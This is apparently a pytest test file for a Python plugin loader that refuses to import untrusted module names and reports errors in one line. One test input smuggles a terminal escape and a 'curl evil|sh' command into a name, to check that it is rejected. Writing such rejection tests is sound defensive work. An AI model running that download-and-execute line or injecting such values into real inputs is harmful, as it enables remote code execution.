import functools
import sys

import pytest

from touchdown.core import plugins
from touchdown.core.errors import UserError


@pytest.fixture(autouse=True)
def _apart(monkeypatch, tmp_path):
    """Nothing is named yet, and the current folder is empty and not yet searched."""
    monkeypatch.setattr(plugins, "_named", set())
    monkeypatch.setattr(plugins, "_given", {})
    monkeypatch.setattr(sys, "path", [path for path in sys.path if path])
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def module(tmp_path):
    """A module in the current folder that leaves a trace when it is imported."""
    text = "from pathlib import Path\nPath('ran').touch()\nclass Inner:\n    value = 7\n"
    (tmp_path / "strangers_code.py").write_text(text)
    yield "strangers_code"
    sys.modules.pop("strangers_code", None)


def test_a_name_that_only_a_file_has_is_refused_and_nothing_runs(module, tmp_path):
    with pytest.raises(UserError) as refused:
        plugins.load(f"{module}:Inner", "env_id")
    assert str(refused.value) == (
        "env_id = 'strangers_code:Inner': names code that would be imported; if you trust it, "
        "pass --trust (in Python: trust=True)"
    )
    assert not (tmp_path / "ran").exists()


def test_a_name_that_the_user_wrote_is_imported_from_the_current_folder(module, tmp_path):
    plugins.allow(f"{module}:Inner.value", "dqn")
    assert plugins.load(f"{module}:Inner.value", "algorithm") == 7
    assert (tmp_path / "ran").exists()
    with pytest.raises(UserError, match="names code"):  # each name for itself
        plugins.load(f"{module}:Inner", "algorithm")


def test_the_current_folder_is_searched_last(tmp_path):
    (tmp_path / "colorsys.py").write_text("yiq_to_rgb = 'mine'")
    plugins.allow("colorsys:yiq_to_rgb")
    assert callable(plugins.load("colorsys:yiq_to_rgb", "env_id"))


def test_trust_covers_every_name_until_it_ends(module):
    # an inner call takes nothing away
    with plugins.trusting(everything=True), plugins.trusting(everything=False):
        assert plugins.load(f"{module}:Inner", "env_id").value == 7
    with pytest.raises(UserError, match="names code"):
        plugins.load(f"{module}:Inner", "env_id")


def test_what_the_user_handed_over_is_found_by_its_name():
    class Mine: ...

    name = plugins.give(Mine)
    assert plugins.load(name, "algorithm") is Mine
    assert plugins.load(plugins.give(Mine, "runs:Other"), "algorithm") is Mine


def test_two_functions_without_a_name_of_their_own_are_told_apart():
    one, other = (lambda: 1), (lambda: 2)
    names = plugins.give(one), plugins.give(other)
    assert [plugins.load(name, "env_id")() for name in names] == [1, 2]
    assert plugins.give(one) == names[0]


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("m:test.<locals>.make", "", "is a local function or an object, which only the process"),
        ("m:Chain()2", "", "is a local function or an object, which only the process that made"),
        ("m:B\n\x1b[2J; curl evil|sh", "", "must be of the form package.module:Name"),
        ("a:b:c", "", "must be of the form package.module:Name"),
        (":Name", "", "must be of the form package.module:Name"),
        ("not here:Name", "", "must be of the form package.module:Name"),
        ("nowhere_at_all:Name", "", "ModuleNotFoundError: No module named 'nowhere_at_all'"),
        ("broken_code:Name", "1 +", "module broken_code cannot be imported: SyntaxError"),
        ("broken_code:Name", "1 / 0", "cannot be imported: ZeroDivisionError: division by zero"),
        ("broken_code:Name", "exit()", "cannot be imported: SystemExit"),
        ("broken_code:Name", "", "module broken_code has no 'Name'"),
    ],
)
def test_what_cannot_be_imported_is_one_line(name, text, said, tmp_path):
    (tmp_path / "broken_code.py").write_text(text)
    plugins.allow(name)
    try:
        with pytest.raises(UserError, match=said) as refused:
            plugins.load(name, "env_id")
    finally:
        sys.modules.pop("broken_code", None)
    assert "\n" not in str(refused.value)
    assert str(refused.value).startswith(f"env_id = {name!r}: ")


def test_a_name_that_the_user_writes_means_the_importable_class_again(module):
    plugins.give(int, f"{module}:Inner")
    assert plugins.load(f"{module}:Inner", "algorithm") is int
    plugins.write(f"{module}:Inner")
    assert plugins.load(f"{module}:Inner", "algorithm").value == 7


def test_what_has_no_name_of_its_own_is_named_after_its_class():
    make = functools.partial(int, "7")
    name = plugins.give(make)
    assert name == "functools:partial()1"
    assert plugins.load(name, "env_id") is make
